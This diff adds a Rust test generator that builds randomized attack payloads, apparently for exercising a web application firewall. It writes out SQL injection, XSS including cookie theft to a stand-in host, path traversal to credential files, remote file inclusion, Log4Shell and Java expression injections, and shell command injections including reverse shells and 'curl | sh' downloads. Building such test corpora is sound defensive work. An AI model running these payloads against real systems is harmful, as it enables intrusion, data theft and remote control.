@@ -1,0 +1,687 @@
+//! Attacks generated from grammars with a fixed seed: each family's
+//! pieces (SQL contexts × payloads × terminators × comment, whitespace and
+//! case styles; HTML tags × event handlers × payloads × separators ×
+//! encodings; traversals × families of sensitive files × encodings...)
+//! combined at random, then placed where a client sends values (query,
+//! form, JSON, cookie). Written for this project from the grammars of the
+//! languages, not from any list of payloads.
+
+use std::fmt::Write as _;
+
+use firewall_core::waf::Request;
+
+/// A deterministic generator (`SplitMix64`): the same seed gives the same
+/// cases on every platform.
+pub struct Rng(u64);
+
+impl Rng {
+    pub fn new(seed: u64) -> Self {
+        Self(seed)
+    }
+
+    pub fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        z ^ (z >> 31)
+    }
+
+    pub fn below(&mut self, n: usize) -> usize {
+        (self.next() % n as u64) as usize
+    }
+
+    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
+        items[self.below(items.len())]
+    }
+
+    pub fn chance(&mut self, percent: u64) -> bool {
+        self.next() % 100 < percent
+    }
+}
+
+/// One generated attack: its family and the request carrying it.
+pub struct Attack {
+    pub family: &'static str,
+    pub payload: String,
+    pub request: Request<'static>,
+}
+
+/// Makes one payload of a family.
+type Generator = fn(&mut Rng) -> String;
+
+/// `per_family` attacks of each family, from `seed`.
+pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
+    let mut rng = Rng::new(seed);
+    let families: [(&'static str, Generator); 7] = [
+        ("sqli", sqli),
+        ("xss", xss),
+        ("lfi", lfi),
+        ("rfi", rfi),
+        ("java", java),
+        ("nosql", nosql_value),
+        ("rce", rce),
+    ];
+    let mut out = Vec::new();
+    for (family, generate) in families {
+        for _ in 0..per_family {
+            let payload = generate(&mut rng);
+            let request = if family == "nosql" {
+                nosql_request(&mut rng, &payload)
+            } else {
+                place(&mut rng, &payload)
+            };
+            out.push(Attack {
+                family,
+                payload,
+                request,
+            });
+        }
+    }
+    out
+}
+
+/// Percent-encodes every byte but letters and digits (and space as `+`
+/// in forms, `%20` elsewhere).
+pub fn encode(value: &str, space: &str) -> String {
+    let mut out = String::new();
+    for b in value.bytes() {
+        match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => out.push(b as char),
+            b' ' => out.push_str(space),
+            _ => {
+                let _ = write!(out, "%{b:02X}");
+            }
+        }
+    }
+    out
+}
+
+/// Places a value where a client sends one: a query argument, a form
+/// field, a JSON string or a cookie.
+fn place(rng: &mut Rng, value: &str) -> Request<'static> {
+    let name = rng.pick(&[
+        "id", "q", "search", "page", "file", "name", "redirect", "lang",
+    ]);
+    match rng.below(4) {
+        0 => Request::from_target("GET", format!("/items?{name}={}", encode(value, "%20"))),
+        1 => Request::new("POST", "/form").body(
+            "application/x-www-form-urlencoded",
+            format!("{name}={}", encode(value, "+")),
+        ),
+        2 => Request::new("POST", "/api/items").body(
+            "application/json",
+            serde_json::json!({ name: value }).to_string(),
+        ),
+        _ => Request::from_target("GET", "/account").cookie(name, encode(value, "%20")),
+    }
+}
+
+/// A keyword in one of the case styles attackers use.
+fn case(rng: &mut Rng, word: &str) -> String {
+    match rng.below(3) {
+        0 => word.to_lowercase(),
+        1 => word.to_uppercase(),
+        _ => word
+            .chars()
+            .map(|c| {
+                if rng.chance(50) {
+                    c.to_ascii_uppercase()
+                } else {
+                    c.to_ascii_lowercase()
+                }
+            })
+            .collect(),
+    }
+}
+
+/// SQL: a context closing the value, a payload, a terminator; keywords in
+/// random case, spaces as one style of blank or comment.
+fn sqli(rng: &mut Rng) -> String {
+    let context = rng.pick(&[
+        "1", "1'", "1\"", "1)", "1')", "x'", "-1", "admin'", "0\"", "1))", "'", "\"",
+    ]);
+    let quote = if context.contains('\'') {
+        "'"
+    } else if context.contains('"') {
+        "\""
+    } else {
+        ""
+    };
+    let cols = rng.pick(&[
+        "null",
+        "1,2,3",
+        "null,null",
+        "@@version,2",
+        "user(),database()",
+        "1,group_concat(table_name),3",
+        "username,password",
+    ]);
+    let payload = match rng.below(6) {
+        // Tautologies and boolean tests.
+        0 => {
+            let test = rng.pick(&[
+                "1=1",
+                "2>1",
+                "'a'='a'",
+                "true",
+                "1 like 1",
+                "3 between 1 and 5",
+                "1 in (1,2)",
+                "not 1=2",
+                "'x' is not null",
+                "ascii(substr(user(),1,1))>64",
+                "length(database())=8",
+                "(select count(*) from users)>0",
+                "1 rlike 1",
+            ]);
+            format!("{} {test}", rng.pick(&["or", "and", "||", "&&", "xor"]))
+        }
+        // UNION.
+        1 => format!(
+            "{} select {cols}{}",
+            rng.pick(&["union", "union all", "union distinct"]),
+            rng.pick(&[
+                "",
+                " from users",
+                " from information_schema.tables",
+                " from dual"
+            ])
+        ),
+        // Stacked queries, in several dialects.
+        2 => format!(
+            "; {}",
+            rng.pick(&[
+                "drop table users",
+                "select pg_sleep(5)",
+                "exec master..xp_cmdshell 'dir'",
+                "waitfor delay '0:0:5'",
+                "shutdown",
+                "insert into users values (1,'a')",
+                "update users set role='admin'",
+                "delete from logs",
+                "declare @x varchar(99)",
+                "create table t (a int)",
+                "select sleep(5)",
+                "truncate table sessions",
+            ])
+        ),
+        // Time based.
+        3 => format!(
+            "{} {}",
+            rng.pick(&["and", "or", "||"]),
+            rng.pick(&[
+                "sleep(5)",
+                "benchmark(5000000,md5(1))",
+                "pg_sleep(5)",
+                "1=(select 1 from pg_sleep(5))",
+                "randomblob(500000000)",
+                "(select * from (select(sleep(5)))a)",
+                "dbms_pipe.receive_message('a',5)=1",
+                "if(1=1,sleep(5),0)",
+            ])
+        ),
+        // Error based.
+        4 => format!(
+            "and {}",
+            rng.pick(&[
+                "extractvalue(1,concat(0x7e,version()))",
+                "updatexml(1,concat(0x7e,user()),1)",
+                "1=convert(int,@@version)",
+                "cast(version() as int)=1",
+                "exp(~(select * from (select user())a))",
+                "1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
+            ])
+        ),
+        // ORDER BY / GROUP BY probing.
+        _ => format!(
+            "{} {}",
+            rng.pick(&["order by", "group by"]),
+            rng.pick(&["1", "3", "10", "1,2"])
+        ),
+    };
+    // Rebalance the quote the query will close, or comment it out.
+    let end = match rng.below(4) {
+        0 => rng.pick(&["--", "-- -", "#", "/*", ";--"]).to_owned(),
+        1 if !quote.is_empty() => format!(" and {quote}1{quote}={quote}1"),
+        _ => String::new(),
+    };
+    let text = format!("{context} {payload}{end}");
+    restyle(rng, &text)
+}
+
+/// Keywords in random case, and spaces as blanks or comments.
+fn restyle(rng: &mut Rng, text: &str) -> String {
+    let blank = rng.pick(&[" ", " ", "/**/", "\t", "\n", "  ", "/*x*/"]);
+    let mut out = String::new();
+    for (i, word) in text.split(' ').enumerate() {
+        if i > 0 {
+            out.push_str(blank);
+        }
+        let styled = if word.chars().all(|c| c.is_ascii_alphabetic()) && word.len() > 2 {
+            let styled = case(rng, word);
+            if rng.chance(5) {
+                format!("/*!50000{styled}*/")
+            } else {
+                styled
+            }
+        } else {
+            word.to_owned()
+        };
+        out.push_str(&styled);
+    }
+    out
+}
+
+/// HTML/JS: a breakout, a tag with an event handler (or a scriptable URL),
+/// a payload, separators, quoting, case and entity encodings.
+#[allow(clippy::too_many_lines)] // One grammar, read top to bottom.
+fn xss(rng: &mut Rng) -> String {
+    let breakout = rng.pick(&[
+        "",
+        "",
+        "\">",
+        "'>",
+        "</textarea>",
+        "</title>",
+        "--></script>",
+        "\"/>",
+    ]);
+    let call = rng.pick(&[
+        "alert(1)",
+        "prompt`1`",
+        "confirm(document.domain)",
+        "eval(atob('YWxlcnQoMSk='))",
+        "fetch('//x.example/'+document.cookie)",
+        "top['al'+'ert'](1)",
+        "window.onerror=alert;throw 1",
+        "import('//x.example/m.js')",
+        "location='//x.example'",
+        "[1].find(alert)",
+    ]);
+    let sep = rng.pick(&[" ", "/", "\t", "\n", "\u{c}", "  "]);
+    let q = rng.pick(&["\"", "'", "", "`"]);
+    let call = if rng.chance(20) {
+        entities(rng, call)
+    } else {
+        call.to_owned()
+    };
+    let element = match rng.below(5) {
+        0 => format!("<{}>{call}</{}>", case(rng, "script"), case(rng, "script")),
+        1 | 2 => {
+            let tag = rng.pick(&[
+                "img src=x",
+                "svg",
+                "body",
+                "iframe",
+                "video src=1",
+                "audio src=1",
+                "details open",
+                "input autofocus",
+                "marquee",
+                "object",
+                "math",
+                "a href=#",
+                "div",
+                "select autofocus",
+                "textarea autofocus",
+                "style",
+                "xss",
+                "image src=1",
+            ]);
+            let handler = rng.pick(&[
+                "onerror",
+                "onload",
+                "onmouseover",
+                "onfocus",
+                "ontoggle",
+                "onbegin",
+                "onanimationstart",
+                "onpointerenter",
+                "onclick",
+                "onwheel",
+                "onstart",
+                "onpageshow",
+            ]);
+            format!(
+                "<{}{sep}{}={q}{call}{q}>",
+                case(rng, tag),
+                case(rng, handler)
+            )
+        }
+        3 => {
+            let scheme = rng.pick(&[
+                "javascript:",
+                "JaVaScRiPt:",
+                "java\tscript:",
+                "javascript&colon;",
+                "&#106;avascript:",
+                "vbscript:",
+                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            ]);
+            let tag = rng.pick(&[
+                "a href",
+                "iframe src",
+                "form action",
+                "object data",
+                "embed src",
+                "button formaction",
+            ]);
+            format!("<{}={q}{scheme}{call}{q}>x", case(rng, tag))
+        }
+        _ => format!(
+            "{q}{sep}{}={q}{call}",
+            rng.pick(&[
+                "onmouseover",
+                "onfocus autofocus x",
+                "onerror",
+                "style=animation-name:x onanimationstart"
+            ])
+        ),
+    };
+    format!("{breakout}{element}")
+}
+
+/// Some of a text's letters as HTML character references.
+fn entities(rng: &mut Rng, text: &str) -> String {
+    text.chars()
+        .map(|c| {
+            if c.is_ascii_alphabetic() && rng.chance(40) {
+                if rng.chance(50) {
+                    format!("&#{};", c as u32)
+                } else {
+                    format!("&#x{:x};", c as u32)
+                }
+            } else {
+                c.to_string()
+            }
+        })
+        .collect()
+}
+
+/// Path traversal: a traversal in one encoding, repeated, then a file of
+/// one of the sensitive families (Unix system files, `/proc`, Windows
+/// drive paths with backslashes, web application secrets, dotfiles).
+fn lfi(rng: &mut Rng) -> String {
+    let unix = [
+        "etc/passwd",
+        "etc/shadow",
+        "etc/hosts",
+        "etc/group",
+        "etc/issue",
+        "etc/crontab",
+        "proc/self/environ",
+        "proc/self/cmdline",
+        "proc/version",
+        "proc/1/maps",
+        "root/.ssh/id_rsa",
+        "home/ubuntu/.bash_history",
+        "var/log/apache2/access.log",
+        "var/log/nginx/error.log",
+        "usr/local/etc/php.ini",
+        "etc/nginx/nginx.conf",
+    ];
+    let windows = [
+        "windows/win.ini",
+        "windows/system32/drivers/etc/hosts",
+        "boot.ini",
+        "windows/system32/config/sam",
+        "inetpub/wwwroot/web.config",
+        "windows/repair/sam",
+        "windows/panther/unattend.xml",
+    ];
+    let web = [
+        "web.config",
+        ".env",
+        ".git/config",
+        ".git/HEAD",
+        ".htaccess",
+        ".htpasswd",
+        "WEB-INF/web.xml",
+        "wp-config.php",
+        "config/database.yml",
+        ".aws/credentials",
+        ".ssh/authorized_keys",
+        ".npmrc",
+        ".docker/config.json",
+        "app/etc/env.php",
+        ".svn/entries",
+        "composer.json",
+    ];
+    let (file, windows_style) = match rng.below(3) {
+        0 => (rng.pick(&unix), false),
+        1 => (rng.pick(&windows), true),
+        _ => (rng.pick(&web), rng.chance(30)),
+    };
+    let up = rng.pick(&[
+        "../",
+        "..\\",
+        "..%2f",
+        "%2e%2e/",
+        "%2e%2e%2f",
+        "..%5c",
+        "%252e%252e%252f",
+        "....//",
+        "..%c0%af",
+        "%c0%ae%c0%ae/",
+        ".%2e/",
+        "..;/",
+        "..//",
+        "%u002e%u002e/",
+        "..%255c",
+    ]);
+    let depth = 1 + rng.below(7);
+    let file = if windows_style {
+        file.replace('/', "\\")
+    } else {
+        file.to_owned()
+    };
+    let start = match rng.below(6) {
+        0 if windows_style => rng
+            .pick(&["c:\\", "C:/", "c:\\\\", "\\\\?\\c:\\"])
+            .to_owned(),
+        1 if !windows_style => "/".to_owned(),
+        2 => rng.pick(&["file:///", "file://localhost/"]).to_owned(),
+        _ => up.repeat(depth),
+    };
+    let suffix = rng.pick(&["", "", "", "%00", "%00.jpg", "?", "#"]);
+    format!("{start}{file}{suffix}")
+}
+
+/// RFI: a remote URL, with the trailing `?` or `#` that cuts off what the
+/// application appends, or an unusual scheme.
+fn rfi(rng: &mut Rng) -> String {
+    let scheme = rng.pick(&[
+        "http://",
+        "https://",
+        "ftp://",
+        "ftps://",
+        "//",
+        "\\\\",
+        "HtTp://",
+        "http:\\\\",
+    ]);
+    let host = rng.pick(&[
+        "evil.example",
+        "192.0.2.7",
+        "attacker.example:8080",
+        "3232235777",
+        "0xc0000207",
+        "x.example.net",
+        "[2001:db8::7]",
+    ]);
+    let path = rng.pick(&[
+        "/shell.txt",
+        "/c99.php",
+        "/x",
+        "/payload.txt",
+        "/inc/config.php",
+        "/",
+    ]);
+    let end = rng.pick(&["?", "#", "??", "%00", "?x=", "%23", "%3f"]);
+    match rng.below(5) {
+        0 => format!(
+            "{}{}",
+            rng.pick(&[
+                "php://input",
+                "php://filter/convert.base64-encode/resource=",
+                "expect://",
+                "data://text/plain;base64,",
+                "phar://",
+                "zip://",
+                "gopher://",
+                "dict://",
+                "jar:http://"
+            ]),
+            rng.pick(&[
+                "id",
+                "index.php",
+                "PD9waHAgc3lzdGVtKCdpZCcpOz8+",
+                "evil.example/x.zip#a"
+            ])
+        ),
+        _ => format!("{scheme}{host}{path}{end}"),
+    }
+}
+
+/// Java: `Log4Shell` lookups with nested obfuscation, OGNL, `SpEL`, EL,
+/// serialized objects and gadget class names.
+fn java(rng: &mut Rng) -> String {
+    match rng.below(5) {
+        0 | 1 => {
+            let jndi: String = "jndi"
+                .chars()
+                .map(|c| match rng.below(5) {
+                    0 => format!("${{lower:{c}}}"),
+                    1 => format!("${{upper:{c}}}"),
+                    2 => format!("${{::-{c}}}"),
+                    3 => format!("${{env:NOPE:-{c}}}"),
+                    _ => c.to_string(),
+                })
+                .collect();
+            let proto = rng.pick(&["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http"]);
+            let proto = if rng.chance(30) {
+                proto.chars().fold(String::new(), |mut out, c| {
+                    let _ = write!(out, "${{lower:{c}}}");
+                    out
+                })
+            } else {
+                proto.to_owned()
+            };
+            format!("${{{jndi}:{proto}://x.example/{}}}", rng.pick(&["a", "${sys:java.version}", "${env:AWS_SECRET_ACCESS_KEY}", "Exploit"]))
+        }
+        2 => rng
+            .pick(&[
+                "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+                "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+                "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}",
+                "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
+                "%{@java.lang.System@getProperty('user.dir')}",
+                "${@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}",
+            ])
+            .to_owned(),
+        3 => rng
+            .pick(&[
+                "T(java.lang.Runtime).getRuntime().exec('id')",
+                "#{T(java.lang.System).getenv()}",
+                "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
+                "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
+                "${pageContext.request.getSession().setAttribute('a',1)}",
+                "${applicationScope}",
+                "#{session.setAttribute('x',1)}",
+                "new java.lang.ProcessBuilder('id').start()",
+            ])
+            .to_owned(),
+        _ => rng
+            .pick(&[
+                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
+                "aced00057372001a6f72672e6170616368652e636f6d6d6f6e732e636f6c6c656374696f6e73",
+                "org.apache.commons.collections.functors.InvokerTransformer",
+                "com.sun.rowset.JdbcRowSetImpl",
+                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}",
+                "java.lang.Runtime",
+                "org.springframework.context.support.ClassPathXmlApplicationContext",
+                "H4sIAAAAAAAAAFvzloG1uIhBNzk/Vy+5KDUls6QYAKzgLp0VAAAA",
+            ])
+            .to_owned(),
+    }
+}
+
+/// Unix and Windows command injection: a separator, a command with its
+/// arguments, in several quoting and substitution styles.
+fn rce(rng: &mut Rng) -> String {
+    let sep = rng.pick(&[";", "|", "||", "&&", "&", "\n", "`", "$("]);
+    let cmd = rng.pick(&[
+        "cat /etc/passwd",
+        "id",
+        "whoami",
+        "uname -a",
+        "ls -la /",
+        "wget http://x.example/s -O /tmp/s",
+        "curl -s x.example|sh",
+        "nc -e /bin/sh x.example 4444",
+        "ping -c 3 127.0.0.1",
+        "sleep 5",
+        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
+        "powershell -enc SQBFAFgA",
+        "cmd /c dir",
+        "type c:\\windows\\win.ini",
+        "python -c 'import os;os.system(\"id\")'",
+        "echo $PATH",
+        "rm -rf /tmp/x",
+        "net user",
+    ]);
+    let cmd = match rng.below(4) {
+        0 => cmd.replace(' ', "${IFS}"),
+        1 => cmd.replacen('a', "'a'", 1),
+        _ => cmd.to_owned(),
+    };
+    let close = match sep {
+        "`" => "`",
+        "$(" => ")",
+        _ => "",
+    };
+    format!(
+        "{}{sep}{cmd}{close}",
+        rng.pick(&["1", "x", "", "127.0.0.1", "a.txt"])
+    )
+}
+
+/// A `NoSQL` operator value (the payload is the operator).
+fn nosql_value(rng: &mut Rng) -> String {
+    rng.pick(&[
+        "$ne", "$gt", "$regex", "$where", "$exists", "$in", "$nin", "$or", "$lt", "$expr",
+    ])
+    .to_owned()
+}
+
+/// `NoSQL` operators in parameter names (`u_id[$ne]=1`) or JSON keys.
+fn nosql_request(rng: &mut Rng, op: &str) -> Request<'static> {
+    let field = rng.pick(&["user", "u_id", "password", "username", "token", "email"]);
+    let value = rng.pick(&["1", "", ".*", "null", "true", "sleep(1000)", "a"]);
+    match rng.below(3) {
+        0 => Request::from_target(
+            "GET",
+            format!(
+                "/login?{field}[{}]={}",
+                encode(op, "%20"),
+                encode(value, "%20")
+            ),
+        ),
+        1 => Request::new("POST", "/login").body(
+            "application/x-www-form-urlencoded",
+            format!("{field}%5B{}%5D={}", encode(op, "+"), encode(value, "+")),
+        ),
+        _ => {
+            let inner = if op == "$where" {
+                serde_json::json!({ op: "sleep(100) || true" })
+            } else {
+                serde_json::json!({ op: value })
+            };
+            Request::new("POST", "/api/login").body(
+                "application/json",
+                serde_json::json!({ field: inner }).to_string(),
+            )
+        }
+    }
+}
